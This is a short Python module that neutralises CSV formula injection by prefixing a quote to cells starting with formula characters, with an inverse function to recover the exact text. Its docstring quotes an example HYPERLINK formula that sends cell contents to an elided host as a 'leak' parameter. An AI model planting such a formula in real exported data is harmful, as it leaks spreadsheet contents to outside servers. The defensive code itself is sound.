"""Spreadsheet-safe CSV cells: text that a spreadsheet would run as a formula is neutralised.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://…/?leak="&A1, …)``); the
OWASP guidance on CSV injection is to prefix such a cell with a single quote, which spreadsheets
show as text and do not display. Readers that need the exact text remove one leading ``'`` from a
cell whose second character is one of those (``unquote_cell``). Numbers are written as they are.
"""
from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """``value`` as written to a CSV cell: strings that start like a formula get a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def row(values) -> list:
    return [cell(v) for v in values]


def unquote_cell(text: str) -> str:
    """The exact text of a cell written by ``cell``."""
    if text.startswith("'") and text[1:2] and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text
